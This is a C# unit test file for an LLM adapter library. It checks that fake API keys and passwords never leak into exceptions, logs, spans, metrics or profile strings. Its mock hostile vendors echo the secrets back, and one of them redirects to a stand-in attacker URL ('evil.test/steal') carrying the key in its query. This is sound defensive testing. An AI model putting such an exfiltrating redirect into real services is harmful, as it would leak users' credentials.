using System.Collections;
using System.Collections.Concurrent;
using System.Diagnostics;
using System.Diagnostics.Metrics;
using System.Net;
using System.Text;
using LlmAdapters.Tests.TestSupport;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Options;

namespace LlmAdapters.Tests.Reliability;

/// <summary>
/// Drives every error path with known secrets through AddLlmAdapters, then searches every sink (exceptions and all their
/// inner exceptions, log records with state and scopes at Trace, spans, metric tags, profile ToString) for the secrets
/// and their Base64 forms.
/// </summary>
[NonParallelizable]
public class SecretSinkTests
{
    private const string Key = "sk-SECRET-4f9c2b7e1a";
    private const string RequestKey = "sk-REQUEST-8d6e5c4b3a";
    private const string Password = "p4ssw0rd-USERINFO-77";

    private const string Exploder = """
        { "name": "exploder",
          "chat": { "path": "/x", "method": "POST", "apitype": "sync",
            "headers": [ { "name": "x-api-key", "value": "${apikey}", "converter": "explode" } ],
            "resp": [ { "name": "content", "value": "text" } ] } }
        """;

    private static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static readonly string[] Needles =
    [
        Key, B64(Key), B64(Key).Replace('+', '-').Replace('/', '_').TrimEnd('='), B64("me:" + Key),
        RequestKey, B64(RequestKey), B64("me:" + RequestKey),
        Password, B64(Password),
    ];

    private static HttpResponseMessage Echo(HttpRequestMessage request, HttpStatusCode status)
    {
        // A hostile vendor: every header value, the URL and the body, in the reason phrase and the error body.
        var headers = string.Join(" ", request.Headers.Select(h => $"{h.Key}={string.Join(",", h.Value)}"));
        var body = request.Content?.ReadAsStringAsync().GetAwaiter().GetResult() ?? string.Empty;
        var echo = $"{request.RequestUri} {headers} {body}".Replace("\"", "'", StringComparison.Ordinal);
        return new HttpResponseMessage(status)
        {
            ReasonPhrase = "Denied " + headers,
            Content = new StringContent($$$"""{"error":{"message":"{{{echo}}}","code":"{{{headers}}}"}}""", Encoding.UTF8, "application/json"),
        };
    }

    [Test]
    public async Task NoSecretReachesAnySink()
    {
        var logs = new CapturingLoggerProvider();
        using var spanListener = Spans.Listen(out var spans);
        var metricTags = new ConcurrentQueue<string>();
        using var meters = new MeterListener
        {
            InstrumentPublished = (instrument, listener) =>
            {
                if (instrument.Meter.Name == "LlmAdapters")
                {
                    listener.EnableMeasurementEvents(instrument);
                }
            },
        };
        void Record(ReadOnlySpan<KeyValuePair<string, object?>> tags)
        {
            foreach (var tag in tags)
            {
                metricTags.Enqueue($"{tag.Key}={tag.Value}");
            }
        }

        meters.SetMeasurementEventCallback<double>((_, _, tags, _) => Record(tags));
        meters.SetMeasurementEventCallback<long>((_, _, tags, _) => Record(tags));
        meters.Start();

        var time = new ManualTimeProvider();
        var arrived = new TaskCompletionSource();
        var folder = CarrierAdapters.WriteToTempFolder();
        File.WriteAllText(Path.Combine(folder, "exploder.json"), Exploder);
        var streamBody = $"data: {{\"choices\":[{{\"delta\":{{\"content\":\"echo {Key} {B64(Key)}\"}}}}]}}\n\ndata: {{\"error\":{{\"message\":\"bad key {Key} {B64("me:" + Key)}\"}}}}\n\n";
        var handlers = new Dictionary<string, Func<HttpMessageHandler>>
        {
            ["unauthorized"] = () => new LambdaHandler((r, _) => Task.FromResult(Echo(r, HttpStatusCode.Unauthorized))),
            ["request-key"] = () => new LambdaHandler((r, _) => Task.FromResult(Echo(r, HttpStatusCode.Forbidden))),
            ["in-band"] = () => new LambdaHandler((r, _) => Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK)
            {
                Content = new StringContent($$$"""{"error":{"message":"key {{{Key}}} is {{{B64(Key)}}}"}}""", Encoding.UTF8, "application/json"),
            })),
            ["converter"] = () => new LambdaHandler((_, _) => throw new AssertionException("nothing is sent when a converter fails")),
            // A per-request key echoed in a 2xx answer: an in-band error, and a stream that fails after echoing it.
            ["in-band-request"] = () => new LambdaHandler((r, _) => Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK)
            {
                Content = new StringContent($$$"""{"error":{"message":"key {{{r.Headers.Authorization}}} {{{B64(RequestKey)}}}"}}""", Encoding.UTF8, "application/json"),
            })),
            ["stream-request"] = () => new LambdaHandler((r, _) => Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK)
            {
                Content = new StringContent($"data: {{\"choices\":[{{\"delta\":{{\"content\":\"echo {r.Headers.Authorization}\"}}}}]}}\n\ndata: {{\"error\":{{\"message\":\"bad key {r.Headers.Authorization} {B64(RequestKey)}\"}}}}\n\n", Encoding.UTF8, "text/event-stream"),
            })),
            ["stream"] = () => StreamResponses.Body(streamBody).Mock,
            ["timeout"] = () => new LambdaHandler(async (_, token) =>
            {
                arrived.TrySetResult();
                await Task.Delay(Timeout.Infinite, token);
                return new HttpResponseMessage();
            }),
            ["redirect"] = () => new LambdaHandler((r, _) =>
            {
                var response = Echo(r, HttpStatusCode.TemporaryRedirect);
                response.Headers.Location = new Uri($"https://evil.test/steal?k={Key}&b={B64(Key)}");
                return Task.FromResult(response);
            }),
            ["user-info"] = () => new LambdaHandler((r, _) => throw new HttpRequestException($"Name or service not known ({r.RequestUri!.Host}:443)")),
        };

        var services = new ServiceCollection();
        services.AddLogging(b => b.SetMinimumLevel(LogLevel.Trace).AddProvider(logs));
        services.AddSingleton<TimeProvider>(time);
        var builder = services.AddLlmAdapters(o => o.AdapterPaths.Add(folder))
            .AddConverter("explode", v => throw new FormatException($"'{v.GetString()}' is not a key I take"));
        foreach (var (name, handler) in handlers)
        {
            builder.AddProfile(name, p =>
            {
                p.Adapter = name switch { "in-band" or "stream" or "in-band-request" or "stream-request" => "openai", "converter" => "exploder", _ => "carriers" };
                p.BaseUrl = name == "user-info" ? $"https://me:{Password}@vendor.test/v1" : "https://vendor.test/v1";
                if (name is not ("request-key" or "in-band-request" or "stream-request"))
                {
                    p.Variables["apikey"] = Key;
                }
                else if (name != "request-key")
                {
                    p.Variables["apikey"] = "overridden-per-request"; // the openai adapter's profiles must name a key
                }

                p.Variables["model"] = "m";
                p.Retry.MaxRetries = 0;
                p.Timeout = TimeSpan.FromSeconds(5);
            });
            builder.AddHttpClient(name).ConfigurePrimaryHttpMessageHandler(handler);
        }

        await using var provider = services.BuildServiceProvider();
        var factory = provider.GetRequiredService<ILlmClientFactory>();
        var failures = new List<Exception>();
        async Task Fail(string profile, LlmRequest request)
        {
            try
            {
                await factory.CreateClient(profile).CallAsync(request);
                Assert.Fail($"{profile}: expected an exception");
            }
            catch (Exception e) when (e is not AssertionException)
            {
                failures.Add(e);
            }
        }

        foreach (var call in new[] { "header", "query", "body", "basic" })
        {
            await Fail("unauthorized", new LlmRequest { Call = call, Prompt = "p" });
            await Fail("request-key", new LlmRequest { Call = call, Prompt = "p", Variables = new Dictionary<string, object?> { ["apikey"] = RequestKey } });
            await Fail("redirect", new LlmRequest { Call = call, Prompt = "p" });
        }

        await Fail("in-band", new LlmRequest { Call = "chat_sync", Prompt = "p" });
        await Fail("converter", new LlmRequest { Prompt = "p" });
        await Fail("stream", new LlmRequest { Prompt = "p" });
        var perRequest = new Dictionary<string, object?> { ["apikey"] = RequestKey };
        await Fail("in-band-request", new LlmRequest { Call = "chat_sync", Prompt = "p", Variables = perRequest });
        await Fail("stream-request", new LlmRequest { Prompt = "p", Variables = perRequest });
        await Fail("user-info", new LlmRequest { Call = "header", Prompt = "p" });
        var slow = factory.CreateClient("timeout").CallAsync(new LlmRequest { Call = "header", Prompt = "p" });
        await arrived.Task.WaitAsync(TimeSpan.FromSeconds(30));
        time.Advance(TimeSpan.FromSeconds(6));
        try
        {
            await slow;
            Assert.Fail("timeout: expected an exception");
        }
        catch (LlmTimeoutException e)
        {
            failures.Add(e);
        }

        // A BaseUrl with user info that is not a valid URL: the options validator's message.
        var bad = new ServiceCollection();
        bad.AddLlmAdapters().AddProfile("bad", p =>
        {
            p.Adapter = "openai";
            p.BaseUrl = $"https://me:{Password}@vendor.test:99999/v1";
            p.Variables["apikey"] = Key;
        });
        await using (var badProvider = bad.BuildServiceProvider())
        {
            failures.Add(Assert.Catch(() => badProvider.GetRequiredService<ILlmClientFactory>().CreateClient("bad"))!);
        }

        Assert.That(failures.Select(e => e.GetType().Name), Is.SupersetOf(new[] { nameof(LlmHttpException), nameof(LlmRequestException), nameof(LlmStreamException), nameof(LlmTimeoutException), "OptionsValidationException" }));
        Assert.That(failures.OfType<LlmRequestException>().Single().InnerException, Is.Not.Null, "the converter's failure is chained (as a redacted stand-in)");

        var sinks = new Dictionary<string, List<string>>
        {
            ["exceptions"] = failures.SelectMany(ExceptionTexts).ToList(),
            ["logs"] = [.. logs.Texts],
            ["spans"] = spans.SelectMany(SpanTexts).ToList(),
            ["metrics"] = [.. metricTags],
            ["profiles"] = provider.GetRequiredService<IOptions<LlmAdaptersOptions>>().Value.Profiles.Values.Select(p => p.ToString()).ToList(),
        };
        foreach (var (sink, texts) in sinks)
        {
            Assert.That(texts, Is.Not.Empty, sink);
            foreach (var needle in Needles)
            {
                Assert.That(texts.Where(t => t.Contains(needle, StringComparison.Ordinal)), Is.Empty, $"{sink} hold '{needle}'");
            }
        }

        // The sinks say what happened: the masked echo, the other origin, the host without user info.
        Assert.That(sinks["exceptions"], Has.Some.Contains("***"));
        Assert.That(sinks["exceptions"], Has.Some.Contains("https://evil.test"));
        Assert.That(sinks["exceptions"], Has.Some.Contains("https://vendor.test"));
        Assert.That(sinks["profiles"], Has.Some.Contains("https://***@vendor.test/v1"));
    }

    private static IEnumerable<string> ExceptionTexts(Exception e)
    {
        for (var current = e; current is not null; current = current.InnerException)
        {
            yield return current.Message;
            yield return current.ToString();
            foreach (DictionaryEntry entry in current.Data)
            {
                yield return $"{entry.Key}={entry.Value}";
            }

            switch (current)
            {
                case LlmHttpException http:
                    yield return http.VendorMessage ?? string.Empty;
                    yield return http.VendorCode ?? string.Empty;
                    yield return http.ResponseExcerpt ?? string.Empty;
                    break;
                case LlmStreamException stream:
                    yield return stream.ReceivedText ?? string.Empty;
                    yield return stream.VendorMessage ?? string.Empty;
                    break;
            }

            if (current is AggregateException aggregate)
            {
                foreach (var inner in aggregate.InnerExceptions.SelectMany(ExceptionTexts))
                {
                    yield return inner;
                }
            }
        }
    }

    private static IEnumerable<string> SpanTexts(Activity span)
    {
        yield return span.DisplayName;
        yield return span.StatusDescription ?? string.Empty;
        foreach (var tag in span.TagObjects)
        {
            yield return $"{tag.Key}={tag.Value}";
        }

        foreach (var e in span.Events)
        {
            yield return e.Name;
            foreach (var tag in e.Tags)
            {
                yield return $"{tag.Key}={tag.Value}";
            }
        }
    }
}
